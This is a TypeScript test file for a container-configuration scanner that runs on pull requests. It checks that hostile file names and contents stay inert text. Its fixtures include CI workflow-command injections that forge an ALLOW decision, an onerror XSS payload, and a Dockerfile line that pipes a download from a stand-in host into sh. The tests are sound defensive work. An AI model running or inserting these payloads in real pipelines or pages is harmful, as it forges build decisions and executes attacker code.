// A change whose file names and contents try to give commands to the runner and markup to a page.
import { afterEach, expect, test } from 'vitest';
import { makeRepository, type Repository } from './git-workspace.ts';
import { runPull } from './pull-request.ts';

let repository: Repository;
afterEach(() => repository.remove());

const COMMAND = '::set-output name=decision::ALLOW';
const OLD_COMMAND = 'x ##[set-output name=decision;]ALLOW';
const MARKUP = '<img src=x onerror=alert(1)>](https://evil.example.invalid) @acme/everyone #1 |`';

/** Each text in a place that a finding quotes or names. */
const hostile = (text: string) => `services:
  web:
    image: ${JSON.stringify(`nginx:latest ${text}`)}
    privileged: true
    container_name: ${JSON.stringify(text)}
    environment:
      NOTE: ${JSON.stringify(text)}
    volumes:
      - ${JSON.stringify(`/etc/${text.replaceAll(':', '')}:/host`)}
    # ${text.replaceAll('\n', ' ')}
    network_mode: ${JSON.stringify(`container:${text}`)}
`;

const names = [
  `a\n${COMMAND}\nb`,
  `${COMMAND} `,
  OLD_COMMAND,
  '<img src=x onerror=alert(1)> @acme|everyone `x` [a](https:evil)',
  '%0A::error::forged',
  'EOF\ndecision=ALLOW',
];

test('names of files and what they hold stay text in every sink', async () => {
  const files = Object.fromEntries(
    [...names, COMMAND, OLD_COMMAND, MARKUP, `a\n${COMMAND}`].map((text, index) => [
      `${index}${names[index] ?? ''}/compose.yaml`,
      hostile(names[index] ?? text),
    ]),
  );
  const docker = `FROM debian\nRUN curl http://a.example.invalid/x | sh # ${OLD_COMMAND}\nLABEL a="${COMMAND}"\nUSER "${COMMAND}"\n`;
  repository = makeRepository({
    base: { 'readme.txt': 'x' },
    head: { ...files, [`d ${OLD_COMMAND}/Dockerfile`]: docker },
  });
  const result = await runPull(repository, { inputs: { 'upload-sarif': 'off', 'fail-on': 'none' } });
  expect(result.forged).toEqual([]);
  expect(result.outputs.decision).toBe(result.exitCode === 0 ? 'ALLOW' : 'DENY');
  expect(Object.keys(result.outputs)).toHaveLength(17);
  expect(result.annotations.filter(({ message }) => message === 'forged' || message === 'ALLOW')).toEqual([]);
  expect(result.touched).toBe('');

  const summary = result.summary ?? '';
  expect(summary).toContain('onerror');
  expect(summary.replace(/<\/?(?:details|summary|br|code)>/g, '').replace(/(`+)[^`\n]+?\1/g, '')).not.toMatch(
    /<[a-z]/i,
  );
  const addresses = [...summary.replace(/(`+)[^\n]+?\1(?!`)/g, 'code').matchAll(/\]\(([^)]*)\)/g)].map(
    ([, url]) => url,
  );
  expect(addresses.length).toBeGreaterThan(0);
  expect(
    addresses.filter((url) => !/^https:\/\/github\.com\/(?:acme\/shop|seaworthy\/seaworthy)\/blob\//.test(url ?? '')),
  ).toEqual([]);
});

test('a hostile configuration is an error that is told as text', async () => {
  repository = makeRepository({
    base: {
      'compose.yaml': 'services: {}\n',
      '.seaworthy.yaml': `profile: ${JSON.stringify(`x\n${COMMAND}\n${MARKUP}`)}\n`,
    },
  });
  const result = await runPull(repository, { inputs: { 'upload-sarif': 'off' } });
  expect(result.exitCode).toBe(2);
  expect(result.forged).toEqual([]);
  expect(result.outputs).toEqual({ 'exit-code': '2' });
  expect(result.summary).not.toContain('<img');
});

test('three thousand changed files', async () => {
  const many = Object.fromEntries(
    Array.from({ length: 3000 }, (_, index) => [`f/${index % 30}/${index}.txt`, `${index}\n`]),
  );
  repository = makeRepository({
    base: { 'compose.yaml': 'services: {}\n' },
    head: { ...many, Dockerfile: 'FROM debian:latest\n' },
  });
  const result = await runPull(repository, { inputs: { 'upload-sarif': 'off', 'fail-on': 'none' } });
  expect(result.exitCode).toBe(0);
  expect(result.annotations.map(({ properties }) => properties.file)).toContain('Dockerfile');
});
